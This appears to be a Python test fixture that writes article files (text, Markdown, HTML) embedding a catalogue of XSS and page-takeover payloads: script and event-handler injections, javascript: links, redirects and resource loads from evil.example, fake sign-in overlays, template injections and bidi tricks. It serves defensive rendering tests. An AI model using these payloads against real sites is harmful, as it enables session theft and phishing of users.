"""What an article, a title, a question, a file's name or a model can hold to take over the page that shows it.

Whatever of it runs sets `window.hacked`; whatever of it is fetched comes from evil.example; whatever of it is laid over
the page is `fixed` or `absolute`.
"""

from html import escape
from pathlib import Path

RUN = "window.hacked=1"
EVIL = "http://evil.example"
COVER = "position:fixed;inset:0;z-index:99999;background:red"
HUGE = 100_000  # characters

CASES = (
    # Scripts
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<SCRIPT SRC={EVIL}/a.js></SCRIPT>",
    f"<script type=module>import('{EVIL}/b.js')</script>",
    f"</textarea></title></style></noscript></template><script>{RUN}</script>",
    f"<!-- --><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script><![CDATA[",
    # Event handlers, alone and out of an attribute
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}></svg>",
    f"<body onpageshow={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={RUN}>",
    f"<p style='animation:breathe 1s' onanimationstart={RUN}>x</p>",
    f"<video><source onerror={RUN}></video>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' onpointerover='{RUN}' x='",
    f'"><img src=x onerror="{RUN}">',
    # Addresses that are programs, and that lead elsewhere
    f'<a href="javascript:{RUN}">read on</a>',
    f"<a href='java&#10;script:{RUN}'>read on</a>",
    f'<iframe src="data:text/html,<script>parent.{RUN}</script>"></iframe>',
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='{EVIL}/c.swf'></object><embed src='{EVIL}/d.swf'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/e'>",
    f"<base href='{EVIL}/'>",
    f"<form action='{EVIL}/f'><button>Ask</button></form>",
    f"<link rel=stylesheet href={EVIL}/g.css>",
    f"<img srcset='{EVIL}/h.png 1x'><picture><source srcset={EVIL}/i.png></picture>",
    # Drawings and formulas
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><use href='{EVIL}/j.svg#x'/></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    "$$\\href{javascript:" + RUN + "}{x}$$ \\(x^2\\)",
    # Style sheets and what lies over the page
    f"<style>body{{background:url({EVIL}/k.png)}} #ask{{display:none}}</style>",
    f"<style>@import '{EVIL}/l.css';</style>",
    f'<div style="{COVER}">Sign in again</div>',
    f"<dialog open style='{COVER}'>Your session has ended</dialog>",
    f'" style="{COVER}" x="',
    '<div id="sources" class="turn" popover>the other panel</div>',
    # Markdown
    f"[read on](javascript:{RUN}) [and on]({EVIL}/m) <{EVIL}/n>",
    f"![boat]({EVIL}/o.png) ![x][1] [1]: {EVIL}/p.png",
    f"**bold** `code` ``` ~~~ # * - > | `<img src=x onerror={RUN}>`",
    # Templates
    "{{value}} {{{value}}} {{#each props}}{{this}}{{/each}} {{constructor.constructor('" + RUN + "')()}}",
    "${" + RUN + "} `${" + RUN + "}` \\`",
    "{@html `<img src=x onerror=" + RUN + ">`} {#if true}x{/if} {%raw%} <%= x %>",
    "{0} {name!r} %s %(name)s $title $body",
    # What looks like ours
    'true [1] [2] [99] <a class="cite" href="#src-1-1" data-quote="false">1</a>',
    '<mark id="src-1-1" data-number="1">false</mark> #src-1-1 src-1-1',
    '<button data-do="ask">Delete all</button><button data-article="x" data-only="x">x</button>',
    '<article class="turn" data-turn="1"><h2 class="question">false</h2></article>',
    # Entities and control characters
    f"&lt;script&gt;{RUN}&lt;/script&gt; &amp;amp; &#60;img src=x onerror={RUN}&#62; &nbsp; &#0;",
    f"<\0script>{RUN}</script\0> \x01\x08\x1b[2J\x07\x7f\x9b31m",
    "%3Cscript%3E \\u003cscript\\u003e \\x3cscript\\x3e +ADw-script+AD4-",
    # Directions, and what is not seen or higher than its line
    "\u202egnihton\u202c \u202etxt.exe",
    "\u2066\u2067x\u2069\u2069\u2069\u2069 \u202e turned",
    "مرفأ المدينة «مفتوح» ١٢ قارباً",
    "zero\u200bwidth\u200cand\u200djoined\ufeff \u00adsoft",
    "Z" + "\u0335\u0321\u0489\u0300\u0301" * 60 + "algo",
    # Without an end
    "W" * HUGE,
    "<b>" * 3_000,
)
TOWNS = [f"{first}{last}" for first in "Vel Kor Mar Tus Bran Dol".split() for last in
         "dren mont gard wick sund berg fell holm port mere".split()]  # fmt: skip


def question(number: int) -> str:
    """About the article of a case, with the case in it."""
    return f"How many boats does the harbour of {TOWNS[number]} hold? {CASES[number]}"[:2_000]


def write_articles(folder: Path) -> list[Path]:
    """A file for each case, in whose text, title and name it stands; every third is Markdown, every third HTML."""
    folder.mkdir(parents=True)
    return [_write(folder, number) for number in range(len(CASES))]


def _write(folder: Path, number: int) -> Path:
    case, town = CASES[number], TOWNS[number]
    held = f"The harbour of {town} holds {number + 10} boats, says {case} today."
    title = f"{town} {case}"
    kind, text = (
        (".txt", f"{title}\n\n2016-08-31\n\n{held}\n\n{case}\n"),
        (".md", f"---\ntitle: |\n  {title}\nurl: javascript:{RUN}\nauthor: {case[:150]}\n---\n\n{held}\n\n{case}\n"),
        (".html", _page(title, held, case)),
    )[number % 3]
    file = folder / (_name(f"{town} {case}") + kind)
    file.write_text(text, "utf-8", newline="")
    return file


def _page(title: str, held: str, case: str) -> str:
    """The case stands in its text as text, in its metadata as their value, and beside them as the markup that it is."""
    return (
        f'<!doctype html><meta charset="utf-8"><title>{escape(title)}</title>'
        f'<meta property="og:title" content="{escape(title)}"><meta name="author" content="{escape(case)}">'
        f'<link rel="canonical" href="javascript:{RUN}"><meta property="og:url" content="data:text/html,x">'
        f"<article><h1>{escape(title)}</h1><p>{escape(held)}</p><p>{escape(case)}</p></article>{case}"
    )


def _name(text: str) -> str:
    """As much of it as a file's name may hold."""
    return text.translate({ord("/"): "∕", 0: None}).encode()[:200].decode(errors="ignore")
